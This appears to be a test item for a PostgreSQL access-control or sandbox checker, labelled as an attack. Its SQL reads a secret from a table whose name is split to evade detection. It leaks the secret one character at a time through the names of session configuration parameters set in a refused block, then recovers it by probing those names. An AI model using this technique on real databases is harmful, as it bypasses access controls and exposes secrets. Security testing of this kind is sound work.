-- Makes up a parameter for each letter of the value in a block that is refused, and asks which there are.
-- wants: read
-- attack:
DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  FOR n IN 1..15 LOOP
    PERFORM set_config(format('x.y%s_%s', n, ascii(substr(value, n, 1))), '', true);
  END LOOP;
END $$;
DO $$ DECLARE found text := ''; BEGIN
  FOR n IN 1..15 LOOP
    FOR letter IN 32..126 LOOP
      IF current_setting(format('x.y%s_%s', n, letter), true) IS NOT NULL THEN found := found || chr(letter); END IF;
    END LOOP;
  END LOOP;
  RAISE NOTICE '%', found;
END $$;
